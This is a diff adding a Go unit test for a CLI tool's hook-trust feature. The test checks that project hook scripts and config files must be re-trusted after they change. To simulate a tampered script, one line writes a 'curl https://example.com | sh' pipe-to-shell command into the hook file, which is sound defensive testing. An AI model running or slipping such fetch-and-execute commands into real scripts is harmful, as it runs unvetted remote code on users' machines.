@@ -0,0 +1,58 @@
+package config
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+)
+
+func TestTrust(t *testing.T) {
+	previous := defaultConfigurationDirectory
+	SetConfigurationDirectory(t.TempDir())
+	defer SetConfigurationDirectory(previous)
+
+	dir := t.TempDir()
+	file := filepath.Join(dir, ".envcli.yml")
+	if err := os.WriteFile(file, []byte("hooks:\n  preRun: ./pre.sh --db postgres\n"), 0600); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(dir, "pre.sh"), []byte("docker compose up -d\n"), 0700); err != nil {
+		t.Fatal(err)
+	}
+	hooks := ProjectHooks{HooksConfiguration: HooksConfiguration{PreRun: "./pre.sh --db postgres", PostRun: "./pre.sh > pre.log 2>>pre.log"}, ConfigFile: file, Directory: dir}
+	if err := os.WriteFile(filepath.Join(dir, "pre.log"), nil, 0600); err != nil {
+		t.Fatal(err)
+	}
+
+	if files := HookFiles(hooks); len(files) != 1 || files[0] != filepath.Join(dir, "pre.sh") {
+		t.Errorf("expected the script of the hook, got %v", files)
+	}
+	if trusted, err := IsTrusted(hooks); trusted || err != nil {
+		t.Errorf("expected the file not to be trusted, got %t (%v)", trusted, err)
+	}
+	if err := Trust(hooks); err != nil {
+		t.Fatalf("unexpected error %v", err)
+	}
+	if trusted, err := IsTrusted(hooks); !trusted || err != nil {
+		t.Errorf("expected the file to be trusted, got %t (%v)", trusted, err)
+	}
+
+	// modified scripts need to be trusted again
+	if err := os.WriteFile(filepath.Join(dir, "pre.sh"), []byte("curl https://example.com | sh\n"), 0700); err != nil {
+		t.Fatal(err)
+	}
+	if trusted, _ := IsTrusted(hooks); trusted {
+		t.Errorf("expected the modified script not to be trusted")
+	}
+	if err := Trust(hooks); err != nil {
+		t.Fatalf("unexpected error %v", err)
+	}
+
+	// modified files need to be trusted again
+	if err := os.WriteFile(file, []byte("hooks:\n  preRun: ./other.sh\n"), 0600); err != nil {
+		t.Fatal(err)
+	}
+	if trusted, _ := IsTrusted(hooks); trusted {
+		t.Errorf("expected the modified file not to be trusted")
+	}
+}